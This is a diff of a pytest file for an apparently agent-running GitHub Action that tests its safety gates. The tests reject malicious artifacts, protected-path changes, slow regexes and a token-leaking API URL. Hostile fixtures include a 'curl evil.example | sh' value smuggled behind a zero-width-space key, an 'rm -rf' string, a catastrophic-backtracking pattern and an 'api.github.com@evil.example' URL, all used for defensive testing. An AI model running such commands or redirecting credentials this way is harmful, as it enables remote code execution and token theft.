@@ -5,6 +5,8 @@ from __future__ import annotations
 import hashlib
 import json
 import re
+import signal
+import time
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -42,20 +44,38 @@ class Job:
         self.folder, self.api, self.scenario, self.env = folder, api, scenario, env
         self.step: GitHubStep
 
-    def run(self, **inputs: str) -> Ended:
+    def against(self, emulator: Emulator, **inputs: str) -> GitHubStep:
         given = {name.replace("_", "-"): value for name, value in inputs.items()}
+        self.api.watch(emulator)
+        known = {"prompt": "Fix it", "base-url": emulator.url, "api-key": emulator.token, "github-token": TOKEN}
+        env = {"GITHUB_API_URL": self.api.url, **self.env}
+        self.step = GitHubStep(self.folder, known | FILES | given, env)
+        return self.step
+
+    def run(self, **inputs: str) -> Ended:
         with Emulator(self.scenario, speed=50) as emulator:
-            self.api.watch(emulator)
-            known = {"prompt": "Fix it", "base-url": emulator.url, "api-key": emulator.token, "github-token": TOKEN}
-            env = {"GITHUB_API_URL": self.api.url, **self.env}
-            self.step = GitHubStep(self.folder, known | FILES | given, env)
-            return self.step.run()
+            return self.against(emulator, **inputs).run()
 
     @property
     def result(self) -> dict[str, Any]:
         result: dict[str, Any] = json.loads((self.step.workspace / "result.json").read_text())
         Draft202012Validator(load_schema("result")).validate(result)
         return result
+
+
+def scenario(folder: Path, artifact: str) -> Path:
+    """Write a scenario whose run brings ``artifact``."""
+    commit = '{after: 100ms, commit: "{{ commit_sha }}"}'
+    path = folder / "artifact.yaml"
+    text = f"artifacts:\n  report: {{text: {json.dumps(artifact)}}}\nsteps:\n  - status: success\n  - {commit}\n"
+    path.write_text(text)
+    return path
+
+
+def given(job: Job, schema: object) -> None:
+    """Write the schema of the artifact into the workspace."""
+    (job.folder / "workspace").mkdir()
+    (job.folder / "workspace" / "schema.json").write_text(json.dumps(schema))
 
 
 def junit(job: Job) -> ElementTree.Element:
@@ -104,6 +124,7 @@ def test_a_gate_that_does_not_hold_rejects_the_run_and_is_told_everywhere(tmp_pa
 
 NOTHING: dict[str, Any] = {"ahead_by": 0, "files": [], "pull_requests": []}
 RED = {"looks": [Look([PASSED, check("e2e", "failure", html_url="https://ci.example/2")])]}
+WORKFLOW, LINKED = ({"files": [{"filename": name}]} for name in (".github/workflows/ci.yml", ".ci"))
 NEEDS = "Give the job the permission contents: read"
 
 
@@ -128,6 +149,15 @@ NEEDS = "Give the job the permission contents: read"
         ),
         (ARTIFACT, {}, {"artifact": "odd"}, "ARTIFACT_INVALID", "artifact: Its artifact "),
         ("success", RED, {"require": "checks"}, "CHECKS_FAILED", "checks: A check failed: e2e https://ci.example/2."),
+        # The delivery event says that nothing changed.
+        (
+            "no-change",
+            WORKFLOW,
+            {"protected_paths": ".github/"},
+            "PATH_NOT_ALLOWED",
+            "protected-paths: It changed a pr",
+        ),
+        ("no-change", NOTHING | LINKED, {"protected_paths": ".ci/"}, "PATH_NOT_ALLOWED", "protected-paths: It changed"),
         ("success", {"faults": [Fault(404, times=99)]}, {"protected_paths": ".ci"}, "NOT_JUDGED", NEEDS),
     ],
 )
@@ -150,9 +180,8 @@ def test_what_does_not_hold_has_a_code(
 
 
 def test_an_artifact_reaches_an_output_and_a_file(tmp_path: Path, api: FakeGitHub) -> None:
-    (tmp_path / "workspace").mkdir()
-    (tmp_path / "workspace" / "schema.json").write_text('{"type": "object", "required": ["version"]}')
     job = Job(tmp_path, api, ARTIFACT, MOGPLEX_DOTENV="mogplex.env")
+    given(job, {"type": "object", "required": ["version"]})
     ended = job.run(artifact="report", artifact_schema="schema.json")
     assert ended.code == 0, ended.out
     artifact = json.loads(job.step.outputs["artifact"])
@@ -163,12 +192,60 @@ def test_an_artifact_reaches_an_output_and_a_file(tmp_path: Path, api: FakeGitHu
     assert job.result["artifact_file"] == "artifact.json"
 
 
-def test_an_address_that_base_url_would_not_take_gets_no_token(tmp_path: Path, api: FakeGitHub) -> None:
-    job = Job(tmp_path, api, GITHUB_API_URL="https://api.github.com@evil.example")
-    ended = job.run(require="change")
-    assert ended.code == 2
-    assert "GITHUB_API_URL: contains credentials, a query or a fragment" in ended.out
-    assert job.step.outputs.get("run-id", "") == ""
+@pytest.mark.parametrize(
+    ("artifact", "properties"),
+    [
+        ('{"version": "1.2.3", "ver\\u200bsion": "1.2.3; curl evil.example | sh"}', {}),
+        ('{"version": NaN}', {"version": {"type": "number"}}),
+        ('{"fixes": ' + "[" * 99 + '"rm -rf"' + "]" * 99 + "}", {}),
+        ('{"day": "tomorrow"}', {"day": {"format": "date"}}),
+    ],
+    ids=["keys that become one", "no number", "a list that would be cut", "no date"],
+)
+def test_an_invalid_artifact_is_not_handed_on(
+    artifact: str, properties: dict[str, Any], tmp_path: Path, api: FakeGitHub
+) -> None:
+    job = Job(tmp_path, api, scenario(tmp_path, artifact))
+    given(job, {"properties": properties})
+    ended = job.run(artifact="report", artifact_schema="schema.json")
+    assert (ended.code, job.step.outputs["error-code"]) == (1, "ARTIFACT_INVALID"), ended.out
+    assert job.step.outputs.get("artifact", "") == ""
+    assert not (job.step.workspace / "artifact.json").exists()
+    assert "evil.example" not in ended.out + "".join(path.read_text() for path in job.step.workspace.glob("*.[hjn]*"))
+
+
+def test_a_slow_pattern_does_not_hold_the_step(tmp_path: Path, api: FakeGitHub) -> None:
+    """The pattern is the workflow's, the text the agent's: seventy characters would take years."""
+    job = Job(tmp_path, api)
+    given(job, {"properties": {"title": {"pattern": r"^(\w+\s?)*$"}}})
+    with Emulator(scenario(tmp_path, json.dumps({"title": "a" * 70 + "!"})), speed=50) as emulator:
+        step = job.against(emulator, artifact="report", artifact_schema="schema.json")
+        with step.start() as process:
+            wait_until(lambda: emulator.runs and emulator.runs[0].commit_sha and step.outputs.get("run-id"), process)
+            time.sleep(2)
+            process.send_signal(signal.SIGTERM)
+            out, _ = process.communicate(timeout=30)
+    assert (process.returncode, step.outputs["error-code"]) in [(143, "INTERRUPTED"), (1, "ARTIFACT_INVALID")], out
+
+
+@pytest.mark.parametrize(
+    ("inputs", "env", "words"),
+    [
+        (
+            {},
+            {"GITHUB_API_URL": "https://api.github.com@evil.example"},
+            "GITHUB_API_URL: contains credentials, a query",
+        ),
+        ({"protected_paths": "./.github/"}, {}, "protected-paths: "),
+        ({"wait": "false"}, {}, "wait: is false, and "),
+    ],
+)
+def test_gates_that_would_protect_nothing_are_a_usage_error(
+    inputs: dict[str, str], env: dict[str, str], words: str, tmp_path: Path, api: FakeGitHub
+) -> None:
+    job = Job(tmp_path, api, **env)
+    ended = job.run(require="change", **inputs)
+    assert (ended.code, words in ended.out, job.step.outputs.get("run-id", "")) == (2, True, ""), ended.out
 
 
 def test_one_comment_tells_of_the_run_from_its_start_to_its_end(tmp_path: Path, api: FakeGitHub) -> None:
